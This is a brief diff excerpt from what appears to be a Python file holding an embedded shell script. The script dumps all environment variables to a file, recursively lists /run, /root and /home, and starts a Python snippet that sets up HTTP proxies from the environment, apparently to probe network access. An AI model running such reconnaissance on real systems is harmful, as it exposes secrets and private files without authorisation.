@@ -32,7 +32,8 @@ may = ["merge", "deploy", "administer"]
 TRY = r"""
 echo la la > song.txt
 env > seen.txt
-ls -laR HONK_HOME /run /root /home 2>&1 | head -500 >> seen.txt
+ls -la HONK_HOME >> seen.txt 2>&1
+ls -laR /run /root /home 2>&1 | head -500 >> seen.txt
 python3 - > answers.txt 2>&1 <<'PY'
 import os, urllib.request
 ways = [{}, *({"http": os.environ[name]} for name in ("HTTP_PROXY", "http_proxy") if name in os.environ)]
